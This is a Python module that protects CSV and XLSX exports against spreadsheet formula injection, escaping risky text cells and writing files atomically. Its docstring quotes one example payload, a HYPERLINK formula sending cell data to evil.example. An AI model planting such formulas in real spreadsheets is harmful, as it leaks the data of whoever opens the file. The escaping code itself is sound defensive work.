"""Cells and files that a person opens in Excel or WPS: the one place for formula safety.

Text from users (village names, station ids, notes) ends up in CSV and XLSX files. A spreadsheet
program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or carriage
return, the same) as a formula, so a village named ``=HYPERLINK("http://evil.example/?"&A2,"x")``
would become a live link that leaks the sheet (CSV/formula injection). The rule here follows the
OWASP advice:

* CSV: a text cell whose first character is one of :data:`FORMULA_TRIGGERS` gets a leading
  apostrophe (``'=HYPERLINK(...)``), which Excel and WPS show as text. Text that is a plain decimal
  number (``-105``, ``+3.5``, ``-1e-3``) is left alone: it is a number, not a formula, and numbers
  stored as numbers (float and int columns) are never touched. :func:`csv_unescape` undoes the
  apostrophe when such a file is read back.
* XLSX: text is written as a string cell (never a formula cell), and a risky one also carries
  Excel's quote-prefix style, the flag Excel itself sets when someone types ``'=...``: the value
  stays exactly as stored, and editing the cell keeps it text.

Every CSV and XLSX writer of the project goes through :func:`write_csv`, :func:`safe_frame` or
:func:`xlsx_cell`; every file the product writes (tables, reports, maps, rasters) goes through
:func:`atomic_write`, so it appears whole or not at all.
"""

from __future__ import annotations

import os
import re
import uuid
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "Sheet", "append_table", "atomic_write", "csv_text", "csv_unescape", "formula_risk",
           "header_cells", "safe_frame", "write_csv", "write_xlsx", "xlsx_cell"]

#: First characters that make a spreadsheet program read a cell as a formula (OWASP's list, and
#: the full-width forms a Chinese input method types).
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@contextmanager
def atomic_write(path: str | Path, *, suffix: str | None = None) -> Iterator[Path]:
    """Yield a temporary path beside ``path`` to write; when the block ends without an error it
    replaces ``path`` in one step (``os.replace``), else it is removed.

    Readers (a person's spreadsheet, a web server, the next job) see the old file or the whole new
    one, never a part. The temporary name is hidden (a leading dot: the drop folder skips it) and
    unique (two writers of one path do not meet); it ends with ``suffix`` (default ``path``'s), as
    GDAL drivers and openpyxl choose the format by it. The parent folder is created.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.stem}.{uuid.uuid4().hex[:8]}.tmp{path.suffix if suffix is None else suffix}")
    try:
        yield tmp
        os.replace(tmp, path)
    finally:
        if tmp.exists():
            tmp.unlink()


def formula_risk(text: str) -> bool:
    """True when ``text`` would be read as a formula by Excel or WPS.

    A text that is a plain decimal number (``-105.5``) is no risk: it is read as that number.
    """
    return bool(text) and text[0] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text) is None


def csv_text(value: Any) -> Any:
    """``value`` for a CSV cell: a risky text gets a leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and formula_risk(value):
        return "'" + value
    return value


def csv_unescape(text: str) -> str:
    """The inverse of :func:`csv_text` for a text read back from a CSV file."""
    if len(text) > 1 and text[0] == "'" and formula_risk(text[1:]):
        return text[1:]
    return text


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are :func:`csv_text`-escaped (for CSV writers).

    Only object and string columns are looked at; numeric, boolean and date columns are unchanged.
    """
    out = pd.DataFrame(frame).copy()
    for name in out.columns:
        column = out[name]
        if column.dtype != object and not isinstance(column.dtype, pd.StringDtype):
            continue
        values = column.to_numpy(dtype=object)
        risky = np.fromiter((isinstance(v, str) and formula_risk(v) for v in values), dtype=bool,
                            count=len(values))
        if risky.any():
            values = values.copy()
            values[risky] = ["'" + v for v in values[risky]]
            out[name] = pd.Series(values, index=out.index, dtype=object)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` as CSV for Excel in China: UTF-8 with BOM, CRLF, no index, formula-safe text."""
    path = Path(path)
    safe_frame(frame).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path


def _plain(value: Any) -> Any:
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and value != value:
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, np.generic):
        return value.item()
    return value


def xlsx_cell(sheet: Any, value: Any, number_format: str | None = None) -> Any:
    """An openpyxl cell for ``sheet`` (write-only or not; pass it to ``sheet.append``).

    Missing values (None, NaN, NaT, NA) give None (an empty cell). Text is always a string cell,
    never a formula; a risky text (:func:`formula_risk`) also gets Excel's quote prefix.
    """
    from openpyxl.cell import WriteOnlyCell

    value = _plain(value)
    if value is None:
        return None
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if formula_risk(value):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    return cell


@dataclass(frozen=True)
class Sheet:
    """A table ready for people: ``frame`` with its headers and values as shown, and per column an
    XLSX width (characters) and Excel number format (None: General). :func:`coverage.labels.people_sheet`
    makes them."""

    frame: pd.DataFrame
    widths: Sequence[float]
    formats: Sequence[str | None]


def header_cells(sheet: Any, labels: Sequence[str]) -> list[Any]:
    """Bold, shaded, centred header cells (formula-safe like every other cell)."""
    from openpyxl.styles import Alignment, Font, PatternFill

    cells = []
    for label in labels:
        cell = xlsx_cell(sheet, str(label))
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDEBF7")
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        cells.append(cell)
    return cells


def append_table(workbook: Any, name: str, table: pd.DataFrame | Sheet) -> None:
    """Add ``table`` to a write-only ``workbook`` as sheet ``name``: header row frozen and filtered,
    column widths and number formats from a :class:`Sheet` (10-28 characters after the header
    otherwise), formula-safe cells."""
    from openpyxl.utils import get_column_letter

    if isinstance(table, Sheet):
        frame, widths, formats = table.frame, list(table.widths), list(table.formats)
    else:
        geometry = getattr(table, "_geometry_column_name", None)
        frame = pd.DataFrame(table.drop(columns=geometry) if geometry in table.columns else table)
        widths = [max(10, min(28, len(str(h)) + 2)) for h in frame.columns]
        formats = [None] * len(frame.columns)
    sheet = workbook.create_sheet(str(name)[:31])
    for j, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(j)].width = width
    sheet.freeze_panes = "A2"
    if len(frame.columns):
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(frame.columns))}{len(frame) + 1}"
    sheet.append(header_cells(sheet, [str(h) for h in frame.columns]))
    columns = [frame[h].astype(object).tolist() for h in frame.columns]
    for row in zip(*columns, strict=True):
        sheet.append([xlsx_cell(sheet, v, f) for v, f in zip(row, formats, strict=True)])


def write_xlsx(sheets: Mapping[str, pd.DataFrame | Sheet], path: str | Path) -> Path:
    """Write each table of ``sheets`` as one sheet (see :func:`append_table`).

    Sheet names are cut to Excel's 31 characters; the geometry of a GeoDataFrame is not written.
    """
    import openpyxl

    path = Path(path)
    workbook = openpyxl.Workbook(write_only=True)
    try:
        for name, table in sheets.items():
            append_table(workbook, name, table)
        workbook.save(path)
    finally:
        workbook.close()
    return path
